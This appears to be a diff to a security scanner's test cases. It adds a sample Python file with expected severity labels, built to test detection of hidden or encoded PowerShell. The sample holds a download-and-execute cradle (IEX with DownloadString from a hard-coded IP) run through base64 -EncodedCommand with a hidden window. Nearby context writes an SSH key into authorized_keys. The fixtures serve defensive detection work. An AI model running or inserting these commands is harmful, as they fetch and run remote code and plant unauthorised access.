@@ -92,6 +92,17 @@ CASES = [
      "def helper(tmp_path):\n"
      "    (tmp_path / 'authorized_keys').write_text('ssh-ed25519 AAAAC3Nz x')\n",
      {5: "low", 7: "low", 9: "high", 12: "critical"}),
+    ("powershell-encoded-visible-script-medium", "powershell-hidden-or-encoded", "tools/clean.py",
+     "import base64, subprocess\n"
+     "CLEAN = 'Get-ChildItem -Path $env:TEMP -Filter *.log | Remove-Item'\n"
+     "DROP = \"IEX (New-Object Net.WebClient).DownloadString('http://91.92.240.11/a.ps1')\"\n"
+     "enc = base64.b64encode(CLEAN.encode('utf-16-le')).decode()\n"
+     "bad = base64.b64encode(DROP.encode('utf-16-le')).decode()\n"
+     "subprocess.run(['powershell', '-NoProfile', '-EncodedCommand', enc])\n"
+     "subprocess.run(['powershell', '-NoProfile', '-EncodedCommand', bad])\n"
+     "subprocess.run(['powershell', '-W', 'Hidden', '-EncodedCommand', enc])\n"
+     "subprocess.run(['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='])\n",
+     {6: "medium", 7: "critical", 8: "critical", 9: "critical"}),
     ("js-whoami-output-is-the-login-name", HOST, "m.js",
      "const { execSync } = require('child_process');\n"
      "const who = execSync('whoami').toString().trim();\n"
